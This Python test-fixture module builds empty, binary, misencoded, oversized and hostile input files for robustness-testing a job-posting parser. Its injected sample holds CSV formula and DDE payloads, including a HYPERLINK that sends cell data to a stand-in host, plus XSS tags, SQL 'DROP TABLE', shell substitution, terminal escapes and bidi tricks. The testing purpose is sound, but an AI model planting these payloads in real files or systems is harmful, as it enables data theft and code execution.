"""Texts and web pages that a run has to outlive: empty, no text at all, torn, endless, or made to steer what shows them."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from hostile_kinds import EITHER, RECORD, Kind, Make
from posting_forms import (
    as_csv,
    as_html,
)

if TYPE_CHECKING:
    from collections.abc import Callable


def _page(body: str, head: str = "") -> Callable[[Make], bytes]:
    return lambda make: f"<html><head>{head}</head><body><p>{make.posting}</p>{body}</body></html>".encode()


def _much(piece: str) -> Callable[[Make], bytes]:
    """A posting, and then the same again and again."""
    return lambda make: make.posting.encode() + piece.encode() * (make.large // 4 // len(piece.encode()))


_PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")

_INJECTED = """TITLE: =HYPERLINK("http://x.example/?"&A1,"Clerk")
Job Number: +1+cmd|' /C calc'!A0
Employer: @SUM(1+1)*cmd|' /C calc'!A0
Department: <script>alert(1)</script><img src=x onerror=alert(1)>
Location: \x1b]0;owned\x07\x1b[2J\x1b[31m12 Pine Street, Alder, ME 04001\x1b[0m
Salary: $20.50 per hour

DUTIES
- -1+1 '; DROP TABLE postings; --
- \t=1+1 "quoted", 'tis `id` $(id) ${HOME} %n%s
- \u202egnihton\u202c \u2066turned\u2069 \N{LINE SEPARATOR}round
- ::error file=x::owned
- </script><!-- ]]> {{7*7}}
"""

TEXTS: tuple[Kind, ...] = (
    Kind("empty.txt", lambda _: b"", ("empty",)),
    Kind("blank.txt", lambda _: b" \t\r\n\x0c\n" * 100, ("empty",)),
    Kind("only a mark.txt", lambda _: b"\xef\xbb\xbf", ("empty",)),
    Kind("noise.txt", Make.noise, ("binary",), varies=True),
    Kind("noise.md", Make.noise, ("binary",), varies=True),
    Kind("noise.csv", Make.noise, ("binary",), varies=True),
    Kind("picture.txt", lambda _: _PNG, ("binary",)),
    Kind("picture.pdf", lambda _: _PNG, ("binary",)),
    Kind("picture.docx", lambda _: _PNG, ("binary",)),
    Kind("photo.md", lambda make: b"\xff\xd8\xff\xe0" + make.noise(), ("binary",)),
    Kind("program.txt", lambda make: b"\x7fELF" + make.noise(), ("binary",)),
    Kind("rich.txt", lambda _: b"{\\rtf1\\ansi Clerk}", ("binary",)),
    Kind("old.docx", lambda make: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + make.noise(), ("binary", "damaged", "encrypted")),
    Kind("too large.txt", lambda make: make.posting.encode() * (make.large * 3 // 2 // 300), ("record", "too_large")),
    Kind("one line.txt", lambda make: b"Clerk. " + b"word " * (make.large // 5 - 9), RECORD),
    Kind("one word.txt", lambda make: b"TITLE: Clerk\n" + b"x" * (make.large - 99), RECORD),
    Kind("blanks.txt", _much(" "), RECORD),
    Kind("line ends.txt", _much("\n"), RECORD),
    Kind("brackets.md", _much("(["), RECORD),
    Kind("amounts.txt", _much("$1,000 - "), RECORD),
    Kind("marks.txt", _much("* "), RECORD),
    Kind("combining.txt", _much("e\u0301\u0302"), RECORD),
    Kind("nul.txt", lambda make: make.posting.replace("nets", "ne\0ts").encode(), ("binary",)),
    Kind("controls.txt", lambda make: make.posting.replace(" ", "\x1b\x08\x1a").encode(), EITHER),
    Kind("half characters.txt", lambda make: make.posting.replace("nets", "n\ud800ts").encode("utf-8", "surrogatepass"), RECORD),
    Kind("half utf-16.txt", lambda make: make.posting.encode("utf-16")[:-1], ("encoding",)),
    Kind("torn pair.txt", lambda make: make.posting.replace("nets", "n\ud800ts").encode("utf-16", "surrogatepass"), EITHER),
    Kind("utf-16 without a mark.txt", lambda make: make.posting.encode("utf-16-be"), RECORD),
    Kind("utf-7.txt", lambda make: make.posting.replace("nets", "nëts").encode("utf-7"), RECORD),
    Kind("ebcdic.txt", lambda make: make.posting.encode("cp500"), EITHER),
    Kind("two encodings.txt", lambda make: (make.posting + "Señor").encode() + "Señor —".encode("cp1252"), RECORD),
    Kind("spoiled.txt", lambda make: make.spoiled(make.posting.encode()), EITHER, varies=True),
    Kind("injected.txt", lambda _: _INJECTED.encode(), RECORD),
    Kind("injected.csv", lambda _: as_csv([{"text": _INJECTED, "id": "=1+1"}, {"text": _INJECTED, "id": "\x1b[2J"}]), RECORD),
    Kind("nested.html", lambda make: b"<p>Clerk</p>" + b"<div>" * (make.large // 20), RECORD),
    Kind("nested lists.html", lambda make: b"<p>Clerk</p>" + b"<ul><li>" * (make.large // 200), RECORD),
    Kind("open comment.html", _page("<!-- " * 100_000), RECORD),
    Kind("entities.html", _page("&#1114112;&#0;&#xd800;&nosuch;&amp" * 10_000), RECORD),
    Kind("attributes.html", _page("<p " + "a=1 " * 100_000 + ">"), RECORD),
    Kind("wrong charset.html", _page("", "<meta charset=utf-16>"), EITHER),
    Kind("no charset.html", _page("", "<meta charset=base64>"), EITHER),
    Kind("scripts only.html", lambda _: b"<html><script>var clerk;</script></html>", ("empty",)),
    Kind("nothing.html", lambda _: b"<html></html>", ("empty",)),
    Kind("deep data.html", _page("", f"<script type='application/ld+json'>{'[' * 100_000}</script>"), RECORD),
    Kind(
        "odd data.html",
        _page("", '<script type="application/ld+json">{"@type": "JobPosting", "title": NaN, "baseSalary": [[]]}</script>'),
        RECORD,
    ),
    Kind("spoiled.html", lambda make: make.spoiled(as_html(make.posting)), EITHER, varies=True),
)
